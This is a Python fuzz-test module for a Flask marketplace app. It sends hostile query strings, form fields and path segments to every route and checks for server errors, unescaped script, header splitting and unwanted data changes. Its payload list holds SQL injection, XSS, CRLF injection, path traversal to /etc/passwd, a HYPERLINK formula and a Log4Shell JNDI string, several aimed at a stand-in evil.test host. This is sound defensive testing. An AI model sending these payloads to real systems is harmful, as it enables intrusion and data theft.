"""Hostile input on every route: fuzzed query strings, form bodies and path
segments, injection attempts in every field. Never a 500, never an unescaped
script in a page, and a refused request (4xx) leaves the saved data as it was.

The routes come from the URL map and the visitor for each from the
authorization matrix, so a new route is fuzzed as soon as it has its entry.
Field names are read from the route's own page (every ``name=`` in its HTML)
plus the parameters the app's search, booking and API pages use.
"""

from __future__ import annotations

import hashlib
import re

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from werkzeug.routing import IntegerConverter

from marketplace.models import db
from tests.integration.test_authorization_matrix import (  # noqa: F401
    MATRIX,
    NEEDS_STAND_IN,
    VISITORS,
    world,
)

# Values people (and scripts) send that code tends to trust.
NASTY = [
    "",
    " ",
    "0",
    "-1",
    "1e309",
    "NaN",
    "99999999999999999999999",
    "2031-02-30",
    "0000-00-00",
    "12:99",
    "' OR '1'='1' --",
    "1; DROP TABLE users; --",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\r\nSet-Cookie: injected=1",
    "%0d%0aLocation: http://evil.test",
    "//evil.test/",
    "https://evil.test/",
    "../../../../etc/passwd",
    "\x00",
    "nul\x00byte",
    "=HYPERLINK(\"http://evil.test\")",
    "🙂" * 3,
    "a" * 5000,
    "{{7*7}}",
    "${jndi:ldap://evil.test/a}",
]
SCRIPT = "<script>alert(1)</script>"
SCRIPT_PAYLOAD = '"><script>alert(1)</script>'

# Parameter names the app's pages and API read, besides those in a page's HTML.
COMMON_FIELDS = [
    "q", "near", "radius_mi", "technique", "condition", "max_price", "available_on",
    "min_rating", "sort", "page", "per_page", "date", "service", "therapist", "slot",
    "starts_at", "clinics", "clinic", "next", "status", "from", "to", "code", "reason",
    "email", "password", "name", "text", "rating", "decision", "week", "day",
]

# Tables whose rows may grow on a refused request by design (an audit entry
# for a refused sign-in, say); everything else must be byte-for-byte unchanged.
GROWS_ON_REFUSAL = {"audit_log", "outbox_emails", "payment_events"}

value = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
)
NAME_RE = re.compile(r'\bname="([^"]+)"')


def _visitor(rule: dict[str, str]) -> str | None:
    """The visitor who is allowed in, preferring the most privileged."""
    for visitor in ("admin", "owner_x", "client_a", "anonymous", "client_b", "owner_y"):
        if rule.get(visitor) == "ok":
            return visitor
    return None


def _cases():
    for endpoint, (methods, rule) in MATRIX.items():
        if endpoint == "static" or (visitor := _visitor(rule)) is None:
            continue
        for method in methods:
            yield pytest.param(endpoint, method, visitor, id=f"{endpoint}-{method}")


def _fingerprint() -> str:
    digest = hashlib.sha256()
    for table in db.metadata.sorted_tables:
        if table.name in GROWS_ON_REFUSAL:
            continue
        rows = db.session.execute(sa.select(table).order_by(*table.primary_key.columns)).all()
        digest.update(f"{table.name}:{len(rows)}:{rows!r}".encode())
    return digest.hexdigest()


def _field_names(client, url: str) -> list[str]:
    response = client.get(url)
    names = set()
    if response.status_code < 400 and response.mimetype.startswith("text/"):  # not a photo
        names = set(NAME_RE.findall(response.get_data(as_text=True)))
    names.discard("csrf_token")
    return sorted(names | set(COMMON_FIELDS))


def _assert_safe(response, label: str) -> None:
    assert response.status_code < 500, f"{label}: server error {response.status_code}"
    if response.mimetype == "text/html":
        assert SCRIPT not in response.get_data(as_text=True), f"{label}: script not escaped"
    for name, header in response.headers.items():
        assert not {"\n", "\r"} & set(header), f"{label}: header {name} split"


@pytest.mark.parametrize(("endpoint", "method", "visitor"), list(_cases()))
def test_fuzzed_requests_are_refused_cleanly(app, client, auth, world, endpoint, method,  # noqa: F811
                                              visitor, monkeypatch):
    users, args = world
    if endpoint in NEEDS_STAND_IN:
        monkeypatch.setitem(app.config, "STRIPE_API_BASE", "http://127.0.0.1:9")
    if visitor != "anonymous":
        auth.session_for(users[visitor])
    rule = next(r for r in app.url_map.iter_rules()
                if r.endpoint == endpoint and method in r.methods)
    with app.test_request_context():
        url = app.url_for(endpoint, **{a: args[a] for a in rule.arguments})
    fields = _field_names(client, url) if "GET" in rule.methods else COMMON_FIELDS

    def attempt(data, *, check_saved=False):
        before = _fingerprint() if check_saved and method != "GET" else None
        if method == "GET":
            response = client.get(url, query_string=data)
        else:
            response = client.open(url, method=method, data=data)
        label = f"{method} {url} {data!r} as {visitor}"
        _assert_safe(response, label)
        if before is not None and response.status_code >= 400:
            db.session.expire_all()
            assert _fingerprint() == before, f"{label}: refused, yet saved data changed"
        if visitor != "anonymous":  # a fuzzed sign-out or revocation must not end the run
            auth.session_for(users[visitor])

    # Every nasty value in every field at once, then each field alone with the
    # values most likely to slip through one field's checks into a query...
    for nasty in NASTY:
        attempt(dict.fromkeys(fields, nasty), check_saved=True)
    for field in fields:
        for nasty in ("nul\x00byte", "99999999999999999999999", SCRIPT_PAYLOAD):
            attempt({field: nasty})

    # ...then random mixtures.
    @settings(max_examples=12, deadline=None, derandomize=True,
              suppress_health_check=[HealthCheck.function_scoped_fixture,
                                     HealthCheck.too_slow])
    @given(data=st.dictionaries(st.sampled_from(fields), value, max_size=6))
    def mixture(data):
        attempt(data)

    mixture()
    if method == "GET" and rule.arguments:
        _fuzz_path(app, client, auth, users, args, rule, visitor)


def _fuzz_path(app, client, auth, users, args, rule, visitor) -> None:
    """The same page with junk in its URL's variable parts: a 404 or a message."""
    numeric = {a for a in rule.arguments if isinstance(rule._converters[a], IntegerConverter)}

    @settings(max_examples=8, deadline=None, derandomize=True,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(text=st.sampled_from(NASTY[1:]) | st.text(min_size=1, max_size=30),
           number=st.sampled_from([0, 2**31, 2**63, 10**30]))
    def attempt(text, number):
        values = {a: (number if a in numeric else text) for a in rule.arguments}
        if rule.endpoint == "static":
            return
        with app.test_request_context():
            url = app.url_for(rule.endpoint, **values)
        _assert_safe(client.get(url), f"GET {url} as {visitor}")
        if visitor != "anonymous":
            auth.session_for(users[visitor])

    attempt()


